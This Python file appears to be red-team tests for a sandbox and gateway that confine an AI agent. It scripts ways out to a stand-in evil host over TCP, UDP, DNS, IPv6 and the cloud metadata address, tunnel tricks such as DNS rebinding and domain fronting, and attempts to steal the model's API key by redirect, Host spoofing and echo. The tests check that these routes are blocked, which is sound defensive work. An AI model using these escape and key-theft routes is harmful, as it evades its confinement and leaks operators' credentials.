"""S9 and S27: what an agent in a real sandbox reaches of a fake internet, and where the gateway sends a key."""

import base64
import ssl
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

from coven_action.adapters.sandbox.sandbox import choose_relay_port
from tests.adapters.gateway.parties import (
    HOST,
    KEY,
    Authority,
    ModelHost,
    build_message,
    build_order,
    build_request,
    start_gateway,
)
from tests.redteam.cases import redteam
from tests.redteam.cell import BACKENDS, Cell, find_backend
from tests.redteam.internet import (
    ABSTRACT,
    EVIL,
    EVIL_IPV6,
    METADATA,
    METADATA_IPV6,
    NAME_SERVER,
    Internet,
    build_question,
    run_there,
)
from tests.sandboxes import open_base

ENFORCED = ("bubblewrap", "root-bubblewrap")
"""The ways of confining that reach `enforced`; `landlock` leaves TCP to the gateway's port."""
EVIL_NAME = "evil.test"
PUBLIC = "93.184.215.14"
"""An address that is public, so that a name may lead there."""


def encode(data: bytes) -> str:
    return base64.b64encode(data).decode()


def send(protocol: str, host: str, port: int, data: bytes | str) -> dict[str, object]:
    data = data.encode() if isinstance(data, str) else data
    return {"do": "send", "protocol": protocol, "host": host, "port": port, "data": encode(data), "if_possible": True}


# Attempt -> what the agent does, and what of it shows at the host that is reached.
WAYS_OUT = {
    "TCP": (send("tcp", EVIL, 443, "by TCP"), b"by TCP"),
    "TCP over IPv6": (send("tcp", EVIL_IPV6, 443, "by TCP over IPv6"), b"by TCP over IPv6"),
    "TCP to a mapped address": (send("tcp", f"::ffff:{EVIL}", 80, "mapped"), b"mapped"),
    "several paths at once": (send("mptcp", EVIL, 80, "by several paths"), b"by several paths"),
    "data in the first packet": (send("fastopen", EVIL, 80, "in the first packet"), b"in the first packet"),
    "SSH's port": (send("tcp", EVIL, 22, "by SSH's port"), b"by SSH's port"),
    "UDP": (send("udp", EVIL, 4444, "by UDP"), b"by UDP"),
    "UDP over IPv6": (send("udp", EVIL_IPV6, 443, "by UDP over IPv6"), b"by UDP over IPv6"),
    "a name server": (send("udp", NAME_SERVER, 53, build_question("asked.evil.test")), b"asked"),
    "a name server by TCP": (send("tcp", NAME_SERVER, 53, build_question("tcp-asked.evil.test")), b"tcp-asked"),
    "the cloud's metadata": (send("tcp", METADATA, 80, "GET /latest/meta-data/"), b"GET /latest/meta-data/"),
    "the cloud's metadata over IPv6": (send("tcp", METADATA_IPV6, 80, "GET /ipv6/"), b"GET /ipv6/"),
    "the time's port": (send("udp", EVIL, 123, "by the time's port"), b"by the time's port"),
    "a service on loopback": (send("tcp", "127.0.0.1", 8080, "to loopback"), b"to loopback"),
    "a service on loopback over IPv6": (send("tcp", "::1", 8080, "to loopback by IPv6"), b"to loopback by IPv6"),
}


@redteam(
    "S27",
    "of a whole internet, by every protocol, at every kind of address, an agent in an enforced sandbox reaches nothing",
    attacks=ENFORCED,
)
def test_s27_nothing_is_reached_from_inside(siege, attack):
    def attempt():
        steps = [step for step, _ in WAYS_OUT.values()]
        steps.append({"do": "connect", "address": f"@{ABSTRACT}", "if_possible": True})
        with open_base() as base, Cell(base) as cell, Internet() as internet:
            cell.run(steps, find_backend(attack))
            return internet.look()

    seen = run_there(attempt)
    harms = {name: any(mark in arrival.data for arrival in seen) for name, (_, mark) in WAYS_OUT.items()}
    assert any(harms.values()) or not [arrival for arrival in seen if arrival.protocol != "unix"], seen
    return harms | {"a socket without a path": any(arrival.protocol == "unix" for arrival in seen)}


# --- through the gateway


@contextmanager
def open_gateway(order, sandbox) -> Iterator[dict[str, object]]:
    """Open the gateway for a sandbox, and yield what the request says of it."""
    with start_gateway(order.model_copy(update={"is_socket_shared": True})) as gateway:
        yield {"gateway": str(gateway.socket), "relay_port": choose_relay_port(sandbox)}


def make_private(folder: Path) -> Path:
    folder.mkdir(mode=0o700)
    return folder


def tunnel(host: str, name: str) -> bytes:
    """Return a request for a tunnel, and the beginning of TLS in it that names a host."""
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        return f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode() + outgoing.read()
    raise AssertionError("a handshake ended without an answer")


# Attempt -> the host that is asked for, and the name in TLS, which shows at whoever is reached.
TUNNELS = {
    "a host that is not listed": ("unlisted.test", "unlisted.test"),
    "the metadata's address": (METADATA, "metadata.test"),
    "an address": (PUBLIC, "address.test"),
    "a listed name that leads to the metadata": ("rebound.test", "rebound.test"),
    "a listed name that leads to loopback": ("looped.test", "looped.test"),
    "another name than was asked for": ("listed.test", "fronted.test"),
}
LISTED = ("listed.test", "rebound.test", "looped.test")
NAMES = {"listed.test": PUBLIC, "rebound.test": METADATA, "looped.test": "127.0.0.1"}


@redteam(
    "S27",
    "the gateway opens a tunnel to no host but those listed, at public addresses, for TLS that names the same host",
    attacks=ENFORCED,
)
def test_s27_no_tunnel_leads_elsewhere(siege, attack):
    def attempt():
        sandbox = find_backend(attack)
        with open_base() as base, Cell(base) as cell, Internet(NAMES) as internet:
            folder = make_private(base / "gateway")
            order = build_order(folder, Authority(folder), {}, hosts=LISTED)
            with open_gateway(order, sandbox) as way:
                steps = [
                    send("tcp", "127.0.0.1", way["relay_port"], tunnel(*asked)) | {"to": f"answer{number}"}
                    for number, asked in enumerate(TUNNELS.values())
                ]
                cell.run(steps, sandbox, **way)
            return internet.look()

    seen = run_there(attempt)
    return {
        name: any(tls.encode() in found.data for found in seen if found.protocol == "tcp")
        for name, (_, tls) in TUNNELS.items()
    }


@redteam(
    "S27", "what the gateway is for is reached through it: the hosts that are listed, and the model's", attacks=ENFORCED
)
def test_s27_what_is_listed_is_reached(siege, attack):
    def attempt():
        sandbox = find_backend(attack)
        with open_base() as base, Cell(base) as cell, Internet(NAMES) as internet:
            folder = make_private(base / "gateway")
            authority = Authority(folder)
            with ModelHost(authority.issue(HOST)) as host:
                order = build_order(folder, authority, {HOST: host.port}, hosts=LISTED)
                with open_gateway(order, sandbox) as way:
                    listed = send("tcp", "127.0.0.1", way["relay_port"], tunnel("listed.test", "listed.test"))
                    model = send("tcp", "127.0.0.1", way["relay_port"], ask("hello")) | {"finish": False}
                    cell.run([listed | {"to": "one"}, model | {"to": "two"}], sandbox, **way)
                return internet.look(), len(host.asked)

    seen, asked = run_there(attempt)
    reached = {arrival.address for arrival in seen if b"listed.test" in arrival.data and arrival.protocol == "tcp"}
    return {"the listed host was out of reach": reached != {PUBLIC}, "the model was out of reach": asked != 1}


def ask(mark: str, **more: object) -> bytes:
    """Return a request to the model, after which the connection is closed."""
    body = {"messages": [{"role": "user", "content": mark}]}
    return build_request(body, **{"host": HOST, "headers": [("connection", "close")], **more})


def answer_hostile(handler) -> None:
    """Be a model's host that sends elsewhere whoever says so, and tells everybody the key that it was given."""
    asked = handler.server.owner.asked[-1]
    if b"redirect me" in asked.body:
        handler.reply(307, b"", headers=[("location", f"https://{EVIL_NAME}/v1/messages")])
    else:
        handler.reply(200, build_message(" ".join(asked.all("x-api-key"))))


# Attempt -> the request, and whether the key came to somebody: a look at what the evil host saw, and the agent got back.
KEY_THEFTS: dict[str, tuple[bytes, Callable[[str, bytes], bool]]] = {
    "an absolute address": (
        ask("absolute", target=f"https://{EVIL_NAME}/v1/messages"),
        lambda seen, _: "absolute" in seen,
    ),
    "another Host": (ask("other host", host=EVIL_NAME), lambda seen, _: "other host" in seen),
    "a redirect of the host's": (ask("redirect me"), lambda seen, _: "redirect me" in seen),
    "an echo of the host's": (ask("echo"), lambda _, got: KEY.encode() in got),
}


@redteam("S9", "a model's key goes to its one host, and comes back from there to nobody", attacks=BACKENDS)
def test_s9_a_key_goes_to_its_one_host_only(siege, attack):
    sandbox = find_backend(attack)
    with ExitStack() as stack:
        base = stack.enter_context(open_base())
        cell = stack.enter_context(Cell(base))
        folder = make_private(base / "gateway")
        authority = Authority(folder)
        host = stack.enter_context(ModelHost(authority.issue(HOST), answer_hostile))
        evil = stack.enter_context(ModelHost(authority.issue(EVIL_NAME)))
        order = build_order(folder, authority, {HOST: host.port, EVIL_NAME: evil.port})
        way = stack.enter_context(open_gateway(order, sandbox))
        steps = [
            send("tcp", "127.0.0.1", way["relay_port"], request) | {"to": f"answer{number}", "finish": False}
            for number, (request, _) in enumerate(KEY_THEFTS.values())
        ]
        got = cell.run(steps, sandbox, **way)
        seen = "\n".join(asked.text for asked in evil.asked if KEY in asked.text)
        return {
            name: happened(seen, got[f"answer{number}"])
            for number, (name, (_, happened)) in enumerate(KEY_THEFTS.items())
        }
